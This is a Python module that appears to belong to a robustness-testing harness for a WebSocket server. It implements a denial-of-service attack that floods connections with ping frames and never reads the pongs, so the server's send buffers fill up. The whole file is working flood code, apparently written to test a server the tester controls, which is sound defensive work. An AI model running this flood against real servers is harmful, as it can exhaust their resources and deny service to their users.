"""Pings without end, and nothing is ever read: what the server writes only because it was asked to piles up."""

import select
import time

from tools.target import Attack, Outcome, Target
from tools.wire import PING, WebSocket, frame

SECONDS = 8
BLOCK = frame(bytes(125), PING) * 500


def run(target: Target) -> Outcome:
    outcome = Outcome()
    end = time.monotonic() + SECONDS
    connections = closed = 0
    while time.monotonic() < end:
        try:
            web_socket = WebSocket(target.http_port, receive_buffer=4096)
        except OSError:
            time.sleep(0.1)
            continue
        connections += 1
        try:
            flood(web_socket, end)
        except OSError:
            closed += 1
        outcome.sent_bytes += web_socket.sent_bytes
        web_socket.close()
    outcome.findings.append(f"{connections} connections, one at a time; the server closed {closed}")
    return outcome


def flood(web_socket: WebSocket, end: float) -> None:
    """Sends until the time is over; a server that reads no more is waited for."""
    web_socket.socket.setblocking(False)
    rest = b""
    while (left := end - time.monotonic()) > 0:
        if not select.select([], [web_socket.socket], [], min(left, 0.5))[1]:
            continue
        rest = rest or BLOCK
        sent = web_socket.socket.send(rest)
        web_socket.sent_bytes += sent
        rest = rest[sent:]


ATTACKS = {"pongs": Attack("Pings, and the pongs are never read", "anybody", SECONDS, run)}
